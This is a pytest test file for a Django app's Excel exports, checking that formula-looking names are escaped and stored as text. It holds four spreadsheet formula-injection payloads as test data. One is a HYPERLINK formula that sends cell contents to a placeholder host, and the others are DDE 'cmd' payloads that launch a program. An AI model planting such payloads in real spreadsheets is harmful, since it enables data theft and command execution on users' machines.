"""Formula injection: text that a spreadsheet would run (=HYPERLINK(…), +cmd|…, @SUM) is
accepted as a name — it is somebody's text — but every Excel file Chibo writes holds it as
text, never as a formula."""

import io

import openpyxl
import pytest
from django.urls import reverse

from members.models import Person
from organizations.models import Organization
from spreadsheets.models import Job, JobStatus

FORMULAS = [
    '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.fixture(autouse=True)
def media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def _cells(content: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def _assert_text_only(content: bytes, formula: str):
    found = False
    for cell in _cells(content):
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str) and formula in cell.value:
            found = True
            assert cell.value == "'" + formula, cell.value  # escaped, as safe_text does
    assert found, "the value is missing from the file"


@pytest.mark.parametrize("formula", FORMULAS, ids=["hyperlink", "plus-cmd", "at-sum", "minus"])
def test_member_export_writes_formula_looking_names_as_text(client, world, formula):
    person = world.member("Trần Thị Hoa", "K1").person
    Person.objects.filter(pk=person.pk).update(full_name=formula)
    client.force_login(world.user("staff_p1"))
    response = client.post(reverse("spreadsheets:export_members"))
    assert response.status_code == 302
    job = Job.objects.latest("created_at")
    assert job.status == JobStatus.SUCCEEDED, job.phase
    download = client.get(reverse("spreadsheets:job_download", args=[job.uuid]))
    _assert_text_only(b"".join(download.streaming_content), formula)


@pytest.mark.parametrize("formula", FORMULAS[:2], ids=["hyperlink", "plus-cmd"])
def test_organization_export_and_report_excel_write_formula_looking_names_as_text(
    client, world, formula
):
    Organization.objects.filter(code="K1").update(name=formula)
    client.force_login(world.user("staff_p1"))
    response = client.post(reverse("spreadsheets:export_organizations"))
    job = Job.objects.latest("created_at")
    assert response.status_code == 302 and job.status == JobStatus.SUCCEEDED, job.phase
    download = client.get(reverse("spreadsheets:job_download", args=[job.uuid]))
    _assert_text_only(b"".join(download.streaming_content), formula)
    report = client.get(
        reverse("reports:export", args=["structure"]) + f"?org={world.org('C1').uuid}"
    )
    assert report.status_code == 200
    content = b"".join(report.streaming_content) if report.streaming else report.content
    _assert_text_only(content, formula)
